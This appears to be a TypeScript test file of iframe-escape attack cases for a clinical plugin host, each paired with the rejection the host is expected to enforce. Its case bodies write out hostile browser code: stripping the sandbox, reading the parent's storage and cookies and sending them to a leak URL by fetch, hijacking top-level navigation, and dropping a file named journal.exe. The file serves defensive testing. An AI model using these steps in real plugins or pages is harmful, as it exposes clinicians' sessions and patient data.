import type { FrameAttack } from '../attack-case.ts';
import type { AttackEvidence } from '../evidence.ts';
import { allOf, contains, ended, noTokenOut, notMounted, nothingLeaked, realmIntact } from '../verdicts.ts';

const nothingOpened = ({ realm }: AttackEvidence) =>
  realm.opened.length > 0 ? `the plugin opened ${realm.opened[0]}` : undefined;

const silentAfterwards = ({ sent, secrets }: AttackEvidence) =>
  contains(sent, secrets.otherPatient) ? 'the next patient was told to a page that had left' : undefined;

const escapeCase = (
  attack: Pick<FrameAttack, 'id' | 'title' | 'act' | 'threat' | 'rejected' | 'verdict'> &
    Partial<FrameAttack>,
): FrameAttack => ({ kind: 'frame', ...attack });

/** What a page would do with the window of the workplace, if it could reach it. */
async function reachForWorkplace(leak: (what: string) => string): Promise<void> {
  const tries: readonly (() => unknown)[] = [
    () => window.frameElement?.removeAttribute('sandbox'),
    () => Object.assign(window.parent, { __samspilAttacked: true }),
    () => window.parent.document.body.append('attacked'),
    () => fetch(leak(`storage-${window.parent.sessionStorage.length}`), { mode: 'no-cors' }),
    () => fetch(leak(`own-storage-${window.sessionStorage.length}`), { mode: 'no-cors' }),
    () => fetch(leak(`cookie-${document.cookie.length}`), { mode: 'no-cors' }),
  ];
  for (const attempt of tries) {
    try {
      await attempt();
    } catch {
      // Refused, as it should be.
    }
  }
}

/** Rows 5, 6, 19 and 20: leaving the frame, its sandbox, or its place on the page. */
export const ESCAPE: readonly FrameAttack[] = [
  escapeCase({
    id: 't05-navigate',
    threat: 5,
    title: 'Takes the port, leaves for another page, and waits for the next patient there',
    setting: 'moves-on',
    rejected: 'The session ends, the frame is taken off the page, and nothing is told to it any more.',
    control: 'bare',
    act: async (kit) => {
      await kit.join();
      location.assign(new URL('/elsewhere/page', location.href));
      await new Promise(() => undefined);
    },
    verdict: allOf(realmIntact, ended('navigated-away'), silentAfterwards),
  }),
  escapeCase({
    id: 't05-meta-refresh',
    threat: 5,
    title: 'Leaves by a refresh in its markup instead of by script',
    rejected: 'The session ends and the frame is taken off the page.',
    control: 'bare',
    act: async (kit) => {
      await kit.join();
      const refresh = document.createElement('meta');
      refresh.httpEquiv = 'refresh';
      refresh.content = `0;url=${new URL('/elsewhere/page', location.href).href}`;
      document.head.append(refresh);
      await new Promise(() => undefined);
    },
    verdict: allOf(realmIntact, ended('navigated-away')),
  }),
  escapeCase({
    id: 't06-own-origin',
    threat: 6,
    title: 'Is registered at the workplace’s own origin, and takes off its sandbox',
    rejected: 'Is not mounted.',
    control: 'isolation-off',
    from: 'own-origin',
    act: (kit) => reachForWorkplace((what) => kit.leakUrl(what)),
    verdict: allOf(realmIntact, notMounted('not-isolated')),
  }),
  escapeCase({
    id: 't06-own-site',
    threat: 6,
    title: 'Is registered at another port of the workplace’s host, which browsers count as the same site',
    rejected: 'Is not mounted.',
    control: 'isolation-off',
    from: 'own-site',
    act: (kit) => reachForWorkplace((what) => kit.leakUrl(what)),
    verdict: allOf(realmIntact, notMounted('not-isolated')),
  }),
  escapeCase({
    id: 't06-reach-parent',
    threat: 6,
    title: 'Reaches for the workplace’s window, document and storage across sites',
    rejected: 'The browser refuses each.',
    act: async (kit) => {
      await kit.join();
      await reachForWorkplace(() => location.href);
      // A frame without a sandbox could at least send the whole workplace away.
      try {
        window.top?.location.replace(kit.leakUrl('top'));
      } catch {
        // Refused, as it should be.
      }
    },
    verdict: allOf(realmIntact, nothingOpened),
  }),
  escapeCase({
    id: 't06-opaque-on-own-server',
    threat: 6,
    title: 'Lies on the workplace’s own server as an opaque plugin, and reads its storage and cookies',
    rejected: 'Has no storage, no cookies and no way to its parent.',
    control: 'sandbox-off',
    from: 'opaque',
    act: (kit) => reachForWorkplace((what) => (/-0$/.test(what) ? location.href : kit.leakUrl(what))),
    verdict: allOf(realmIntact, nothingLeaked, noTokenOut),
  }),
  escapeCase({
    id: 't19-popup',
    threat: 19,
    title: 'Opens a window of its own',
    rejected: 'No window opens.',
    act: async (kit) => {
      await kit.join();
      window.open(kit.leakUrl('popup'), '_blank');
      const link = document.createElement('a');
      Object.assign(link, { href: kit.leakUrl('popup-by-link'), target: '_blank' });
      document.body.append(link);
      link.click();
      await new Promise((resolve) => setTimeout(resolve, 200));
    },
    verdict: allOf(realmIntact, nothingLeaked),
  }),
  escapeCase({
    id: 't19-top-navigation',
    threat: 19,
    title: 'Sends the whole workplace to another page',
    rejected: 'The workplace stays.',
    act: async (kit) => {
      await kit.join();
      for (const target of ['_top', '_parent']) {
        const link = document.createElement('a');
        Object.assign(link, { href: kit.leakUrl(`navigated-${target}`), target });
        document.body.append(link);
        link.click();
      }
      await new Promise((resolve) => setTimeout(resolve, 200));
    },
    verdict: allOf(realmIntact, nothingLeaked, nothingOpened),
  }),
  escapeCase({
    id: 't19-modal',
    threat: 19,
    title: 'Stops the page with alert, confirm, prompt and print',
    rejected: 'No dialog opens, and the workplace goes on.',
    act: async (kit) => {
      await kit.join();
      alert('attacked');
      confirm('attacked');
      prompt('attacked');
    },
    verdict: allOf(realmIntact, nothingOpened),
  }),
  escapeCase({
    id: 't19-download',
    threat: 19,
    title: 'Drops a file on the clinician’s disk',
    rejected: 'Nothing is downloaded.',
    act: async (kit) => {
      await kit.join();
      const link = document.createElement('a');
      Object.assign(link, { href: kit.leakUrl('file').replace('/leak/', '/file/'), download: 'journal.exe' });
      document.body.append(link);
      link.click();
      await new Promise((resolve) => setTimeout(resolve, 200));
    },
    verdict: allOf(realmIntact, ({ requests }) =>
      requests.some(({ url }) => url.includes('/file/')) ? 'a file was fetched for download' : undefined,
    ),
  }),
  escapeCase({
    id: 't20-features',
    threat: 20,
    title: 'Counts what the browser lets it use: camera, microphone, place, clipboard, payment, USB',
    rejected: 'None of them is granted to the frame.',
    control: 'bare',
    act: async (kit) => {
      await kit.join();
    },
    verdict: ({ realm }) => {
      const powerful = realm.features.filter((name) =>
        /^(camera|microphone|geolocation|clipboard-read|clipboard-write|payment|usb|serial|hid|bluetooth|midi|display-capture|fullscreen|screen-wake-lock|publickey-credentials-get)$/.test(
          name,
        ),
      );
      return powerful.length > 0 ? `the frame may use ${powerful.join(', ')}` : undefined;
    },
  }),
];
